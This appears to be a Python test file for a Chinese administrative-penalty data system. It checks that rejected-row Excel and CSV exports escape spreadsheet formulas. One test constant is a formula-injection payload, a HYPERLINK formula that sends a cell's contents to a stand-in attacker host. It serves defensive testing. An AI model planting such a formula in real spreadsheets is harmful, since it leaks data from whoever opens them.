"""The rejected-rows workbook and CSV, and the neutralisation they rely on."""

import codecs
import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from xinyong.catalog.loader import parse_catalog
from xinyong.collection.rejects import (
    ERRORS_HEADER,
    NON_FIELD_HEADERS,
    ROW_NUMBER_HEADER,
    rejected_csv,
    rejected_workbook,
    write_rejected_workbook,
)
from xinyong.collection.workbooks import (
    ERROR_FILL,
    Cell,
    cell_text,
    neutralise,
    restore,
    write_table,
)

QINGDAO_DIR = Path(__file__).resolve().parents[2] / "catalog" / "qingdao"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.fixture(scope="module")
def item():
    result = parse_catalog(QINGDAO_DIR)
    assert result.ok
    return next(i for i in result.catalog.items if i["code"] == "XZCF")


def submitted(name="青岛某某贸易有限公司", amount="-0.5", lb="法人及非法人组织"):
    """Values keyed by the headers an officer submitted: an alias, spacing, an asterisk."""
    return {"被处罚对象名称": name, "行政相对人类别 ": lb, "*罚款金额(万元)": amount,
            "处罚决定日期": "2026/13/01", "自定义列": "保留"}


ERRORS = [{"field": "CF_NR_FK", "code": "negative", "message": "罚款金额（万元）不能为负数"},
          {"field": "CF_JDRQ", "code": "date", "message": "处罚决定日期不是有效日期"},
          {"field": None, "code": "missing_column", "message": "缺少必填列“处罚决定书文号”"},
          {"field": "CF_JDRQ", "code": "date", "message": "处罚决定日期不是有效日期"}]


def sheet(data: bytes, name: str = "XZCF") -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(name).to_python()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def filled_cells(data: bytes) -> set[str]:
    """References of the cells whose style has the error fill."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = ElementTree.fromstring(z.read("xl/styles.xml"))
    fills = [f.find("m:patternFill/m:fgColor", NS) for f in styles.find("m:fills", NS)]
    argb = "FF" + ERROR_FILL[1:]
    red = {i for i, f in enumerate(fills) if f is not None and f.get("rgb") == argb}
    xfs = [int(xf.get("fillId", 0)) in red for xf in styles.find("m:cellXfs", NS)]
    cells = ElementTree.fromstring(sheet_xml(data)).iter(f"{{{NS['m']}}}c")
    return {c.get("r") for c in cells if c.get("s") and xfs[int(c.get("s"))]}


# ---- neutralisation ---------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+86 532 1234", "'+86 532 1234"), ("-1+2", "'-1+2"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=cmd", "'\t=cmd"), ("\r+1", "'\r+1"),
    (HYPERLINK, "'" + HYPERLINK), ("-0.5", "-0.5"), ("+12", "+12"), ("1.5e3", "1.5e3"),
    ("罚款2000元", "罚款2000元"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, "-5"),
    (2.0, "2"), (Decimal("-0.200000"), "-0.200000"), (date(2026, 1, 5), "2026/01/05"),
    (datetime(2026, 1, 5), "2026/01/05"), (datetime(2026, 1, 5, 8, 30), "2026/01/05 08:30:00"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("value", ["=1+1", "-1+2", "@x", "\t=1", "'plain", "'", "text", "-3"])
def test_restore_undoes_neutralise(value):
    assert restore(neutralise(value)) == value


def test_write_table_never_writes_formulas():
    buffer = io.BytesIO()
    wb = xlsxwriter.Workbook(buffer, {"in_memory": True})
    ws = wb.add_worksheet("T")
    count = write_table(ws, ["=A1", "数"], [["=1+1", 3], [Cell("@x"), -2.5]])
    wb.close()
    assert count == 2
    assert sheet(buffer.getvalue(), "T") == [["'=A1", "数"], ["'=1+1", 3.0], ["'@x", -2.5]]
    assert "<f>" not in sheet_xml(buffer.getvalue())


def test_cell_text_of_plain_values():
    assert cell_text(7) == "7" and cell_text(0.25) == "0.25" and cell_text("x") == "x"


# ---- the rejected workbook --------------------------------------------------------------

def test_columns_are_the_submitted_ones_between_row_number_and_errors(item):
    data = rejected_workbook(item, [(5, submitted(), ERRORS)])
    rows = sheet(data)
    assert rows[0] == [ROW_NUMBER_HEADER, "被处罚对象名称", "行政相对人类别 ", "*罚款金额(万元)",
                       "处罚决定日期", "自定义列", ERRORS_HEADER]
    assert rows[1][:6] == [5.0, "青岛某某贸易有限公司", "法人及非法人组织", "-0.5", "2026/13/01",
                           "保留"]
    assert rows[1][-1] == ("罚款金额（万元）不能为负数；处罚决定日期不是有效日期；"
                           "缺少必填列“处罚决定书文号”")
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names == ["XZCF"]


def test_cells_in_error_are_highlighted(item):
    rows = [(5, submitted(), ERRORS),
            (9, submitted(name="另一家公司"), [{"field": "CF_XDR_MC", "code": "x",
                                               "message": "名称有误"}]),
            (12, submitted(), [{"field": "行政相对人类别", "code": "x", "message": "类别有误"},
                               {"field": "CF_UNKNOWN", "code": "x", "message": "其他"}]),
            (13, submitted(), [{"field": "行政相对人名称", "code": "x", "message": "名称有误"}])]
    data = rejected_workbook(item, rows)
    assert filled_cells(data) == {"D2", "E2", "B3", "C4", "B5"}


def test_values_are_neutralised(item):
    values = {"行政相对人名称": HYPERLINK, "处罚内容": "+罚款", "罚款金额（万元）": 0.2}
    data = rejected_workbook(item, [(2, values, [{"field": "CF_NR", "code": "x",
                                                   "message": "=内容有误"}])])
    assert sheet(data)[1] == [2.0, "'" + HYPERLINK, "'+罚款", 0.2, "'=内容有误"]
    assert "<f>" not in sheet_xml(data)


def test_explicit_headers_and_our_own_columns_dropped(item):
    """A resubmitted reject file that fails again: its 原行号 / 错误说明 are not repeated."""
    values = {ROW_NUMBER_HEADER: 5, "行政相对人名称": "甲公司", ERRORS_HEADER: "旧的说明"}
    headers = [ROW_NUMBER_HEADER, "行政相对人名称", "处罚决定书文号", ERRORS_HEADER]
    data = rejected_workbook(item, [(3, values, [{"field": "CF_WSH", "code": "required",
                                                  "message": "缺少处罚决定书文号"}])],
                             headers=headers)
    rows = sheet(data)
    assert rows[0] == [ROW_NUMBER_HEADER, "行政相对人名称", "处罚决定书文号", ERRORS_HEADER]
    assert rows[1] == [3.0, "甲公司", "", "缺少处罚决定书文号"]
    assert filled_cells(data) == {"C2"}
    assert NON_FIELD_HEADERS == {ROW_NUMBER_HEADER, ERRORS_HEADER}


def test_no_rows_gives_the_item_header(item):
    rows = sheet(rejected_workbook(item, []))
    assert rows == [[ROW_NUMBER_HEADER, *[f["name"] for f in item["fields"]], ERRORS_HEADER]]


def test_header_row_is_frozen_and_explained(item):
    data = rejected_workbook(item, [(2, submitted(), ERRORS)])
    assert 'ySplit="1"' in sheet_xml(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        comments = "".join(z.read(n).decode() for n in z.namelist() if "comments" in n)
    assert "自动忽略" in comments


def test_round_trip_after_restore(item):
    """What the officer gets back reads as what was submitted once our marks are removed."""
    values = {"行政相对人名称": "-某公司", "处罚内容": "罚款2000元"}
    rows = sheet(rejected_workbook(item, [(4, values, [])]))
    header, row = rows
    back = {h: restore(v) for h, v in zip(header, row, strict=True) if h not in NON_FIELD_HEADERS}
    assert back == values


# ---- CSV --------------------------------------------------------------------------------

def test_rejected_csv(item):
    chunks = rejected_csv(item, iter([(5, submitted(name=HYPERLINK), ERRORS)]))
    first = next(chunks)
    assert first.startswith(codecs.BOM_UTF8)
    text = (first + b"".join(chunks)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == ROW_NUMBER_HEADER and rows[0][-1] == ERRORS_HEADER
    assert rows[1][:3] == ["5", "'" + HYPERLINK, "法人及非法人组织"]
    assert rows[1][-1].count("；") == 2


# ---- scale ------------------------------------------------------------------------------

def rss_bytes() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


def test_100k_rejected_rows_in_bounded_memory(item, tmp_path):
    headers = [f["name"] for f in item["fields"][:6]]
    peak = {"start": rss_bytes(), "max": 0}

    def rows():
        for n in range(100_000):
            if n % 5_000 == 0:
                peak["max"] = max(peak["max"], rss_bytes())
            values = {h: f"{h}{n}" for h in headers}
            yield n + 2, values, [{"field": "CF_WSH", "code": "dup",
                                   "message": f"第{n + 2}行与其他行重复"}]

    target = tmp_path / "rejected.xlsx"
    assert write_rejected_workbook(item, rows(), target) == 100_000
    peak["max"] = max(peak["max"], rss_bytes())
    assert peak["max"] - peak["start"] < 200 * 1024 * 1024
    book = CalamineWorkbook.from_path(str(target)).get_sheet_by_name("XZCF")
    assert book.height == 100_001
